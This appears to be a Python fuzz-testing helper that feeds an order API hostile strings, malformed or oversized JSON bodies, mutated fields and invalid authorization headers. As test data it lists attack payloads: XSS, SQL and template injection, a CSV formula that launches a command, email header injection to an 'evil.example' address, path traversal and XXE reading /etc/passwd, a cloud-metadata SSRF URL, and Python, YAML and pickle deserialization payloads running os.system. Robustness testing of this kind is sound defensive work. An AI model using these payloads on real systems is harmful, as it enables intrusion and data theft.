"""Hostile values and bodies, the same for every door; what is drawn comes from a seeded generator."""

import copy
import json
from collections.abc import Iterator, Sequence
from random import Random
from typing import Any, TypeVar

DEEP = 10_000

_Drawn = TypeVar("_Drawn")

TEXTS: tuple[str, ...] = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "{{ 7919 * 7919 }}",
    "${7919*7919}",
    "' OR 1=1 --",
    "1; DROP TABLE orders",
    "=cmd|'/C calc'!A0",
    "a\r\nBcc: thief@evil.example",
    "a\nX-Injected: yes",
    "=?utf-8?q?=0D=0ABcc:_thief@evil.example?=",
    "../../../../etc/passwd",
    "..%2f..%2fetc%2fpasswd",
    "http://169.254.169.254/latest/meta-data",
    "javascript:alert(1)",
    "file:///etc/passwd",
    "\x00",
    "\u202e\u2066\ufeff",
    "\u0661\u00b2",
    "x" * 5_000,
    "%00%0d%0a",
    "null",
    "-1",
    "1e400",
    "9" * 4_000,
    "NaN",
    "0x10",
)

VALUES: tuple[Any, ...] = (
    *TEXTS,
    None,
    True,
    -1,
    0,
    10**30,
    10**400,
    1.5,
    1e308,
    float("nan"),
    float("inf"),
    [],
    {},
    [[]],
    {"__proto__": {"admin": True}},
    ["x"] * 600,
    {"$ref": "#"},
    "\ud800",
)

BODIES: dict[str, bytes] = {
    "nothing": b"",
    "half an object": b'{"order_id": "1042"',
    "no characters": b"\xff\xfe\x00",
    "UTF-16": '{"order_id": "1"}'.encode("utf-16"),
    "a mark and no object": b"\xef\xbb\xbf[1]",
    "half a character": b'{"order_id": "\\ud800", "text": "\\ud800"}',
    "not a number": b'{"amount": NaN, "order_id": NaN}',
    "without end": b'{"amount": Infinity, "order_id": -Infinity}',
    "an exponent": b'{"amount": 1e400, "order_id": 1e400}',
    "5,000 digits": b'{"amount": ' + b"1" * 5_000 + b"}",
    "a name twice": b'{"evil": 1, "evil": 2}',
    "10,000 arrays": b"[" * DEEP + b"]" * DEEP,
    "10,000 objects": b'{"a":' * DEEP + b"1" + b"}" * DEEP,
    "10,000 objects without end": b'{"a":' * DEEP,
    "900 objects": b'{"a":' * 900 + b"1" + b"}" * 900,
    "150 objects": b'{"a":' * 150 + b"1" + b"}" * 150,
    "400,000 empty objects": b'{"lines": [' + b"{}," * 400_000 + b"{}]}",
    "parcels of 300,000 empty objects": b'{"parcels": [{"contents": [' + b"{}," * 300_000 + b"{}]}]}",
    "600,000 numbers": b'{"payments": [' + b"1," * 600_000 + b"1]}",
    "100,000 names": ("{" + ",".join(f'"f{n}":1' for n in range(100_000)) + "}").encode(),
    "a name of 1.5 MB": b'{"' + b"a" * 1_500_000 + b'": 1}',
    "a text of 1.5 MB": b'"' + b"a" * 1_500_000 + b'"',
    "a number": b"7",
    "true": b"true",
    "an array": b"[{}]",
    "somebody's object": b'{"__proto__": {"admin": true}, "constructor": 1}',
    "Python": b"__import__('os').system('id')",
    "XML": b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>',
    "YAML": b"!!python/object/apply:os.system ['id']",
    "a pickle": b"\x80\x04cposix\nsystem\n",
}


def paths(body: Any, way: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    """To every value within the body."""
    named: Any = body.items() if isinstance(body, dict) else enumerate(body) if isinstance(body, list) else ()
    for name, part in named:
        yield (*way, name)
        yield from paths(part, (*way, name))


def mutated(random: Random, body: Any) -> tuple[str, Any]:
    """The body with one hostile value, name or hole in it, and which."""
    changed = copy.deepcopy(body)
    places = [*paths(changed)]
    kind = random.choice(("value", "value", "value", "value", "name", "hole")) if places else "name"
    if kind == "name":
        name = random.choice(("__class__", "by ", "BY", "order_id\x00", "x" * 300, "admin"))
        changed[name] = random.choice(VALUES)
        return f"an unknown name {name[:20]!r}", changed
    *way, last = random.choice(places)
    at = changed
    for step in way:
        at = at[step]
    if kind == "hole":
        del at[last]
        return f"without {last}", changed
    at[last] = random.choice(VALUES)
    return f"{'.'.join(map(str, (*way, last)))} is {repr(at[last])[:40]}", changed


def as_json(body: Any) -> bytes:
    return json.dumps(body).encode()


def useless_keys(good: str, revoked: str) -> dict[str, dict[str, str]]:
    """Headers by which nobody may be let in: of no key, a wrong one, or a good one in the wrong place."""
    key_id = good.split("_")[1]
    return {
        "nothing": {},
        "a random key": {"Authorization": f"Bearer oo_{'a' * 12}_{'b' * 43}"},
        "another's secret": {"Authorization": f"Bearer oo_{key_id}_{revoked.split('_', 2)[2]}"},
        "a revoked key": {"Authorization": f"Bearer {revoked}"},
        "a key cut off": {"Authorization": f"Bearer {good[:-1]}"},
        "a long key": {"Authorization": f"Bearer {'x' * 20_000}"},
        "a key as Basic": {"Authorization": f"Basic {good}"},
        "a key in a cookie": {"Cookie": f"oo_session={good}; oo_order={good}"},
    }


def drawn(random: Random, all_of_them: Sequence[_Drawn], count: int) -> list[_Drawn]:
    """`count` of them, or all where there are no more."""
    return random.sample(all_of_them, min(count, len(all_of_them)))
